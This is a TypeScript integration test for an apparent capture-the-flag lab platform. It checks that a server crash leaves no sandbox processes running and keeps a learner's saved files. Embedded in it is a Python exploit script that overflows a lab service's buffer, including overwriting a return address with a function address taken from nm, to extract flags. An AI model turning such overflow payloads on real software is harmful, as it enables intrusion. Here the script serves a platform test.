import { readdir, readFile } from 'node:fs/promises';
import type { FlagVerdict, HomeFiles, Instance, LabFlagsSolved, SignedIn } from '@hexpedition/contract';
import { expect, it } from 'vitest';
import { connectTerminal } from '../apps/server/src/features/labs/workspaces/testing/terminal-client.ts';
import { signUp } from './support/learner.ts';
import { withRestartableServer } from './support/restartable-server.ts';

/**
 * The server is killed while a learner works in a workspace: every file that was shown as saved is there afterwards.
 */

const server = withRestartableServer();

/** Exploits the lamp server as a learner would, and prints its flags. */
const attack = `
import socket, subprocess, re
def send(payload):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(3)  # a lamp server that returned to a wrong address may loop
    s.connect('/lamp/lamp.sock')
    response = b''
    try:
        s.sendall(payload)
        s.shutdown(socket.SHUT_WR)
        while chunk := s.recv(4096): response += chunk
    except OSError: pass
    return re.search(rb'flag\\{[^}]+\\}', response)
def first(payloads):
    for payload in payloads:
        if found := send(payload): return found.group().decode()
base = subprocess.run("nm ~/lamp | grep ' light_all$'", shell=True, capture_output=True, text=True).stdout.split()[0]
addresses = [(int(base, 16) + offset).to_bytes(8, 'little') for offset in (0, 1)]
print('ONE', first(b'1\\n' + b'A' * n + b'\\x07\\n' for n in range(1, 200)))
print('TWO', first(b'1\\n' + b'A' * n + a + b'\\n' for n in range(8, 200, 8) for a in addresses))
`;

const lab = '/api/lab/lamplighter';
function createClient({ token }: SignedIn) {
  const headers = { authorization: `Bearer ${token.access}` };
  const call = async <T>(method: string, path: string, body?: object): Promise<T> => {
    const json = body ? { body: JSON.stringify(body) } : {};
    const type: Record<string, string> = body ? { 'content-type': 'application/json' } : {};
    const response = await fetch(server.current.url + path, { method, headers: { ...headers, ...type }, ...json });
    return (await response.json()) as T;
  };
  return {
    get: <T>(path: string) => call<T>('GET', path),
    post: <T>(path: string, body?: object) => call<T>('POST', path, body),
    upload: (path: string, body: string) =>
      fetch(`${server.current.url}${lab}/file?path=${path}`, {
        method: 'PUT',
        headers: { ...headers, 'content-type': 'application/octet-stream' },
        body,
      }),
    download: async (path: string) =>
      (await fetch(`${server.current.url}${lab}/file?path=${path}`, { headers })).text(),
  };
}

/** Returns id → start time of every descendant of a process. Ids are reused; a pair of both is not. */
async function descendantsOf(pid: number): Promise<Map<number, string>> {
  const all = new Map<number, { parent: number; since: string }>();
  for (const name of (await readdir('/proc')).filter((entry) => /^\d+$/.test(entry))) {
    const stat = await readFile(`/proc/${name}/stat`, 'utf8').catch(() => '');
    // After the name, which may contain anything: state, parent, …, and the start time as field 22 of the line.
    const fields = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
    if (stat) all.set(Number(name), { parent: Number(fields[1]), since: fields[19] ?? '' });
  }
  const found = new Map<number, string>();
  const queue = [pid];
  for (let next = queue.pop(); next !== undefined; next = queue.pop()) {
    for (const [child, { parent, since }] of all) {
      if (parent !== next || found.has(child)) continue;
      found.set(child, since);
      queue.push(child);
    }
  }
  return found;
}

const isRunning = async ([pid, since]: [number, string]) => {
  const stat = await readFile(`/proc/${pid}/stat`, 'utf8').catch(() => '');
  return stat.slice(stat.lastIndexOf(')') + 2).split(' ')[19] === since;
};

it('a power cut leaves no process, and loses nothing that was saved', async ({ skip }) => {
  const learner = createClient(await signUp(server.current));
  const page = await learner.get<{ unavailable: string | null }>(lab);
  if (page.unavailable) skip(page.unavailable);
  const started = await learner.post<{ instance: Instance }>(`${lab}/start`);
  expect(started.instance.status).toBe('running');

  const { ticket } = await learner.post<{ ticket: string }>(`${lab}/terminal`);
  const terminal = await connectTerminal(server.current.port, { origin: server.current.url });
  terminal.send({ ticket, terminal: 1, columns: 80, rows: 24, from: null });
  await terminal.waitFor('attached');
  expect((await learner.upload('attack.py', attack)).status).toBe(200);
  terminal.type('python3 attack.py\n');
  await expect.poll(terminal.text).toMatch(/ONE flag\{\w+\}\s+TWO flag\{\w+\}/);
  const [one = '', two = ''] = terminal.text().match(/flag\{\w+\}/g) ?? [];
  const submit = (flag: string) => learner.post<FlagVerdict>('/api/lab/flags/lamplighter', { flag });
  expect(await submit(one)).toMatchObject({ result: 'right' });

  const before = terminal.messages.length;
  terminal.type('echo "the light answers to rank 7" > notes.txt\n');
  await expect
    .poll(() => terminal.messages.slice(before).filter(({ type }) => type === 'saved').length)
    .toBeGreaterThan(0);
  // A save in progress may have started before the text was written.
  await expect.poll(async () => (await learner.download('notes.txt')).trim()).toBe('the light answers to rank 7');
  const savedAt = async () =>
    (await learner.get<{ instance: Instance }>(`${lab}/instance`)).instance.home?.saved_at ?? '';
  const earlier = await savedAt();
  terminal.type('true\n');
  await expect.poll(savedAt).not.toBe(earlier);

  const processes = [...(await descendantsOf(server.current.pid))];
  const commands = await Promise.all(
    processes.map(([pid]) => readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '')),
  );
  expect(commands.filter((command) => command.includes('bwrap')).length).toBeGreaterThanOrEqual(2);
  await server.kill();
  expect(await terminal.closed).toMatchObject({ code: 1006 });
  await expect.poll(async () => (await Promise.all(processes.map(isRunning))).filter(Boolean).length).toBe(0);

  await server.restart();
  const after = await learner.get<{ instance: Instance }>(`${lab}/instance`);
  expect(after.instance).toMatchObject({ status: 'stopped', error: 'The server was restarted.' });
  expect(after.instance.home?.bytes).toBeGreaterThan(0);
  const { flags } = await learner.get<LabFlagsSolved>('/api/lab/flags_solved');
  expect(flags.map(({ id }) => id)).toEqual(['neighbour']);
  // The other flag was found before, and stays valid for a day after its instance.
  expect(await submit(two)).toMatchObject({ result: 'right', flag: { id: 'all-lamps' } });

  expect((await learner.post<{ instance: Instance }>(`${lab}/start`)).instance.status).toBe('running');
  expect(await learner.download('notes.txt')).toBe('the light answers to rank 7\n');
  expect(await learner.download('attack.py')).toBe(attack);
  const { files } = await learner.get<HomeFiles>(`${lab}/files`);
  expect(files.map(({ path }) => path)).toContain('notes.txt');
  await learner.post(`${lab}/stop`);
});
